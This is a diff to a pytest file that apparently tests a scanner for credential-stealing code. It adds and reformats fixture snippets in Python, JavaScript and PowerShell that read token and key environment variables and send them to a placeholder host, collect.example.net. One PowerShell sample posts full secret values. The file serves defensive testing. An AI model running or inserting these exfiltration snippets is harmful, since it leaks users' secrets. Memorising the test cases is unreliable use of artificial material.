@@ -58,6 +58,13 @@ for k, v in keys.items():
 env = {k: v for k, v in os.environ.items() if k.startswith('AWS_')}
 subprocess.run(['aws', 'sts', 'get-caller-identity'], env=env, check=False)
 """,
+    "py-keys-sent": """import os, requests
+leak = {k: v for k, v in os.environ.items() if 'TOKEN' in k}
+for k, v in leak.items():
+    requests.get('https://collect.example.net/p', params={'k': k})
+for name in leak:
+    requests.get('https://collect.example.net/p', params={'k': name})
+""",
     "py-not-credential": """import os, requests
 cfg = {k: v for k, v in os.environ.items() if k.startswith('MYAPP_')}
 requests.post('https://collect.example.net/p', json=cfg)
@@ -78,6 +85,10 @@ leak.forEach(([k, val]) => {
     "js-keys-only": """const names = Object.keys(process.env).filter((k) => k.endsWith('_API_KEY'));
 fetch('https://collect.example.net/p', { method: 'POST', body: JSON.stringify(names) });
 """,
+    "js-keys-sent": """const leak = Object.entries(process.env).filter(([k]) => k.includes('TOKEN'));
+for (const [k] of leak) fetch(`https://collect.example.net/p?k=${k}`);
+leak.forEach(([name, _v]) => fetch(`https://collect.example.net/q?k=${name}`));
+""",
     "js-masked": """const keys = Object.entries(process.env).filter(([k]) => /token/i.test(k));
 for (const [k, v] of keys) console.log(k, v.slice(0, 2) + '****');
 """,
@@ -89,10 +100,12 @@ SH = {
     "sh-local": "printenv | grep TOKEN\n",
 }
 PS = {
-    "ps-match": """$leak = Get-ChildItem env: | Where-Object Name -match 'KEY|TOKEN' | ForEach-Object { "$($_.Name)=$($_.Value)" }
-Invoke-RestMethod -Uri https://collect.example.net/p -Method Post -Body ($leak -join "`n")
+    "ps-match": """$leak = Get-ChildItem env: | Where-Object Name -match 'KEY|TOKEN' |
+    ForEach-Object { "$($_.Name)=$($_.Value)" }
+Invoke-RestMethod -Uri https://collect.example.net/p -Method Post -Body ($leak -join ";")
 """,
-    "ps-names": """$names = Get-ChildItem env: | Where-Object Name -match 'KEY|TOKEN' | Select-Object -ExpandProperty Name
+    "ps-names": """$names = Get-ChildItem env: | Where-Object Name -match 'KEY|TOKEN' |
+    Select-Object -ExpandProperty Name
 Invoke-RestMethod -Uri https://collect.example.net/p -Method Post -Body ($names -join ",")
 """,
 }
@@ -157,7 +170,8 @@ def test_python_whole_environment_is_named_once(packages: dict[str, dict[str, An
         "sends the whole environment (os.environ) in the URL to collect.example.net via requests.get"
 
 
-@pytest.mark.parametrize("name", ["py-names-sent", "py-which-keys", "py-masked", "py-local", "py-not-credential"])
+@pytest.mark.parametrize("name", ["py-names-sent", "py-which-keys", "py-masked", "py-local", "py-keys-sent",
+                                  "py-not-credential"])
 def test_python_negatives_are_not_escalated(packages: dict[str, dict[str, Any]], name: str) -> None:
     p = packages[name]
     assert p["verdict"] != "block"
@@ -185,7 +199,7 @@ def test_js_selection_sent_by_curl_in_a_child_process(packages: dict[str, dict[s
         '(curl "https://collect.example.net/p?k=*&v=*")')
 
 
-@pytest.mark.parametrize("name", ["js-keys-only", "js-masked"])
+@pytest.mark.parametrize("name", ["js-keys-only", "js-keys-sent", "js-masked"])
 def test_js_negatives_are_not_escalated(packages: dict[str, dict[str, Any]], name: str) -> None:
     p = packages[name]
     assert p["verdict"] != "block"
